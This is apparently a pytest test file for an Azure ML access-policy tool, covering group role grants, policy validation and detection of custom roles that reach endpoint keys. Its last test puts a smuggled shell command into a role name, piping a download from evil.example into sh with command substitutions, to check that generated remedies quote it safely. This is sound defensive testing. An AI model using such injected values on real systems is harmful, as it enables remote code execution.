"""People: whom the policy means, what they hold, what the app may give them; and what custom roles give away."""

import shlex
from collections.abc import Mapping
from typing import Any

import pytest
from unit.build import (
    GROUP,
    SUBSCRIPTION,
    WORKSPACE,
    access,
    assigned,
    endpoint,
    estate,
    guid,
    role,
    sai,
    terms,
    workspace,
)

from emulator.identity.conditions import Attributes, Conditions
from shared import policy
from shared.access.actions import Plan
from shared.access.ask_rules import asks_of
from shared.access.asks import Finding, RequiredGrant
from shared.access.condition import condition, for_groups
from shared.access.held import held
from shared.access.model import Estate, Fact, Unreadable, Want
from shared.access.plan import plan
from shared.access.preferences import People
from shared.access.rules import RULES
from shared.access.scope import Scope

RULE = {rule.name: rule for rule in RULES}
TEAM = guid("team")
DATA_SCIENTIST = role("AzureML Data Scientist").role_id
SCORER = guid("a custom role")
ONLINE = "Microsoft.MachineLearningServices/workspaces/onlineEndpoints"


def named(*, scopes: tuple[Scope, ...] = (), role_id: str = DATA_SCIENTIST, **tags: str) -> People:
    return People((TEAM,), role_id, "AzureML Data Scientist", scopes, tuple(tags.items()))


def asks(seen: Estate, rule: str = "people") -> list[Any]:
    return list(asks_of(RULE[rule], seen.subject, seen))


def with_people(people: People, **tags: str) -> Estate:
    seen = estate(workspace(raw={"tags": tags}))
    return Estate(seen.now, seen.subject, people=(people,), access={TEAM: access()})


@pytest.mark.parametrize(
    ("people", "tags", "meant"),
    [
        (named(scopes=(WORKSPACE,)), {}, True),
        (named(scopes=(GROUP,)), {}, True),
        (named(scopes=(SUBSCRIPTION.child("resourceGroups", "rg-prod"),)), {}, False),
        (named(team="a"), {"team": "a"}, True),
        (named(team="a"), {"TEAM": "a"}, True),
        (named(team="a"), {"team": "A"}, False),
        (named(team="a", stage="prod"), {"team": "a"}, False),
        (named(scopes=(GROUP,), team="a"), {}, False),
        (named(), {"team": "a"}, False),
    ],
)
def test_which_workspaces_are_meant(people: People, tags: dict[str, str], *, meant: bool) -> None:
    found = asks(with_people(people, **tags))
    assert bool(found) is meant
    assert all(isinstance(one, RequiredGrant) and one.principal.type == "Group" for one in found)


@pytest.mark.parametrize(
    ("role_id", "holds", "covered"),
    [
        (DATA_SCIENTIST, "AzureML Data Scientist", True),
        (DATA_SCIENTIST, "Contributor", True),
        (DATA_SCIENTIST, "Reader", False),
        (SCORER, "Contributor", False),  # what the custom role gives is not known: only itself will do
        (role("Reader").role_id, "Reader", True),
    ],
)
def test_what_a_group_holds_already(role_id: str, holds: str, *, covered: bool) -> None:
    seen = with_people(named(scopes=(GROUP,), role_id=role_id))
    (ask,) = asks(seen)
    with_role = Estate(seen.now, seen.subject, access={TEAM: access(assigned("team", holds, GROUP))})
    assert held(ask, with_role).held is covered


def made(people: People, *, on: bool) -> Plan:
    return plan(with_people(people), terms(on=["people"] if on else []))


def test_it_is_granted_to_the_group_and_until_then_reported() -> None:
    (grant,) = made(named(scopes=(GROUP,)), on=True).grants
    assert (grant.principal.id, grant.principal.type, grant.scope) == (TEAM, "Group", WORKSPACE)
    (found,) = [one for one in made(named(scopes=(GROUP,)), on=False).findings if one.rule == "people"]
    assert "--assignee-principal-type Group" in found.remedy
    assert "AML-44" in found.requirements


POLICY = f"""
rules: {{people: {{enabled: true}}}}
people:
  - {{groups: [{TEAM}], role: data_scientist, tags: {{team: a}}}}
  - {{groups: [{TEAM}], role: {SCORER}, scopes: [{GROUP}]}}
"""


@pytest.mark.parametrize("operation", ["write", "delete"])
@pytest.mark.parametrize(
    ("role_id", "kind", "allowed"),
    [
        (DATA_SCIENTIST, "Group", True),
        (SCORER, "Group", True),
        (DATA_SCIENTIST, "ServicePrincipal", False),
        (DATA_SCIENTIST, "User", False),
        (role("AcrPull").role_id, "ServicePrincipal", True),
        (role("AcrPull").role_id, "Group", False),
        (role("Owner").role_id, "Group", False),
    ],
)
def test_the_app_can_give_groups_these_roles_and_no_others(
    operation: str, role_id: str, kind: str, *, allowed: bool
) -> None:
    prefix = "Microsoft.Authorization/roleAssignments".lower()
    told = {f"{prefix}:roledefinitionid": [role_id], f"{prefix}:principaltype": [kind]}
    text = condition(policy.parse(POLICY).terms())
    asked = f"Microsoft.Authorization/roleAssignments/{operation}"
    attributes = Attributes(request=told) if operation == "write" else Attributes(resource=told)
    assert Conditions().fulfilled(text, asked, attributes) is allowed


def test_groups_get_nothing_while_the_rule_is_off() -> None:
    assert for_groups(policy.parse(POLICY.replace("enabled: true", "enabled: false")).terms()) == ()
    assert "Group" not in condition(policy.parse("").terms())


@pytest.mark.parametrize(
    ("entry", "says"),
    [
        ("{groups: [team], role: data_scientist, tags: {a: b}}", r"people\[0\].groups\[0\]"),
        (f"{{groups: [], role: data_scientist, scopes: [{GROUP}]}}", r"people\[0\].groups"),
        (f"{{groups: [{TEAM}], role: scientist, scopes: [{GROUP}]}}", r"people\[0\].role: data_scientist, or the GUID"),
        (f"{{groups: [{TEAM}], role: {role('Owner').role_id}, scopes: [{GROUP}]}}", "no group Owner"),
        (f"{{groups: [{TEAM}], role: data_scientist}}", r"people\[0\]: name the workspaces"),
        (f"{{groups: [{TEAM}], role: data_scientist, scopes: [rg]}}", r"people\[0\].scopes\[0\]"),
    ],
)
def test_a_policy_that_names_people_wrongly(entry: str, says: str) -> None:
    with pytest.raises(policy.PolicyError, match=says):
        policy.parse(f"people: [{entry}]")


def definition(*actions: str, but: tuple[str, ...] = ()) -> Mapping[str, Any]:
    name = guid(repr(actions))
    block = {"actions": list(actions), "notActions": list(but)}
    return {
        "id": f"{SUBSCRIPTION}/providers/Microsoft.Authorization/roleDefinitions/{name}",
        "name": name,
        "properties": {"roleName": "Custom", "permissions": [block], "updatedBy": guid("author")},
    }


def with_roles(*roles: Mapping[str, Any], fact: Fact = None) -> Estate:
    seen = estate(workspace(endpoint("serve", sai("serve"))))
    (want,) = RULE["custom-role-keys"].wants(seen.subject, seen)
    return Estate(seen.now, seen.subject, facts={want: fact or tuple(roles)})


@pytest.mark.parametrize(
    ("actions", "but", "found"),
    [
        ((f"{ONLINE}/*/action",), (), True),
        (("Microsoft.MachineLearningServices/workspaces/*/action",), (), True),
        (("Microsoft.MachineLearningServices/workspaces/*",), (), True),
        ((f"{ONLINE}/score/action",), (), False),
        ((f"{ONLINE}/*/read",), (), False),
        ((f"{ONLINE}/listKeys/action",), (), False),  # said in so many words
        (("*",), (), False),
        ((f"{ONLINE}/*/action",), (f"{ONLINE}/listKeys/action",), True),
        ((f"{ONLINE}/*/action",), (f"{ONLINE}/listKeys/action", f"{ONLINE}/regenerateKeys/action"), False),
        ((f"{ONLINE}/*/action",), (f"{ONLINE}/*Keys/action",), False),
    ],
)
def test_which_custom_roles_reach_keys(actions: tuple[str, ...], but: tuple[str, ...], *, found: bool) -> None:
    assert bool(asks(with_roles(definition(*actions, but=but)), "custom-role-keys")) is found


def test_only_authors_of_roles_for_aml_are_looked_at() -> None:
    (ask,) = asks(with_roles(definition(f"{ONLINE}/score/action")), "custom-role-authors")
    assert isinstance(ask, RequiredGrant)
    assert (ask.principal.id, ask.scope) == (guid("author"), SUBSCRIPTION)
    assert not asks(with_roles(definition("Microsoft.Storage/*/read")), "custom-role-authors")


def test_a_workspace_without_endpoints_costs_no_look() -> None:
    seen = estate(workspace())
    for name in ("custom-role-keys", "custom-role-authors", "endpoint-scorers"):
        assert not list(RULE[name].wants(seen.subject, seen))


def test_what_may_not_be_read_is_said() -> None:
    (found,) = asks(with_roles(fact=Unreadable.FORBIDDEN), "custom-role-keys")
    assert isinstance(found, Finding)
    assert "Microsoft.Authorization/roleDefinitions/read" in found.message


def test_nobody_can_score_unless_a_person_or_group_holds_a_role() -> None:
    def seen(kind: str, role_id: str) -> Estate:
        one = estate(workspace(endpoint("serve", sai("serve"), raw={"properties": {"authMode": "aadToken"}})))
        assignments, roles = RULE["endpoint-scorers"].wants(one.subject, one)
        row = {"properties": {"principalType": kind, "roleDefinitionId": f"/x/roleDefinitions/{role_id}"}}
        facts: dict[Want, Fact] = {assignments: (row,), roles: (definition(f"{ONLINE}/score/action"),)}
        return Estate(one.now, one.subject, facts=facts)

    custom = definition(f"{ONLINE}/score/action")["name"]
    for kind, role_id, nobody in (
        ("Group", DATA_SCIENTIST, False),
        ("Group", role("Owner").role_id, False),
        ("Group", role("Contributor").role_id, False),
        ("Group", "B78C5D69-AF96-48A3-BF8D-A8B4D589DE94", False),  # Azure AI Administrator
        ("Group", "64702f94-c441-49e6-a78b-ef80e0188fee", False),  # Azure AI Developer
        ("User", custom, False),
        ("User", role("Reader").role_id, True),
        ("ServicePrincipal", DATA_SCIENTIST, True),
    ):
        assert bool(asks(seen(kind, role_id), "endpoint-scorers")) is nobody


def test_a_name_in_a_remedy_runs_nothing() -> None:
    """People paste remedies, and whoever owns a resource group names custom roles as they like."""
    name = 'scorer"; curl evil.example | sh; "$(id)`id`'
    custom_role = {
        "id": f"{SUBSCRIPTION}/providers/Microsoft.Authorization/roleDefinitions/{guid('r')}",
        "properties": {
            "roleName": name,
            "permissions": [{"actions": ["Microsoft.MachineLearningServices/workspaces/onlineEndpoints/*/action"]}],
        },
    }
    want = Want(SUBSCRIPTION, "Microsoft.Authorization/roleDefinitions?$filter=type%20eq%20'CustomRole'")
    seen = estate(workspace(endpoint("serve", sai("serve"))), facts={want: (custom_role,)})
    (found,) = [one for one in plan(seen, terms()).findings if one.rule == "custom-role-keys"]
    command = found.remedy.partition("(``")[2].partition(" > role.json``")[0]
    assert shlex.split(command)[4:6] == ["--name", name]
